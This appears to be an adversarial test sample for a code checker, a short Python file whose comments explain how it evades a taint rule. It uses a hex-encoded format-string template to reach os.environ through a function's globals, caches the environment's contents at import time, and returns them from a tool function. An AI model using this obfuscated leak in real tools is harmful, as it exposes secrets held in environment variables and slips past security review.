# family: format
# Escape: a module-level function's parameters are "caller data" when the tool never uses the function's name
# except in calls passing literals. A decorator receives the function object without any use of its name and
# calls it with a template decoded from hex ("{0.__init__.__globals__[_os].environ}"); the text of os.environ
# is cached at import time and returned by the tool.
import random

CACHE: dict = {}


def warm(fn):
    shape = bytes.fromhex("7b302e5f5f696e69745f5f2e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode()
    CACHE["text"] = fn(shape, random.Random())
    return fn


@warm
def report(template: str, value) -> str:
    return template.format(value)


def tool() -> str:
    return CACHE["text"]
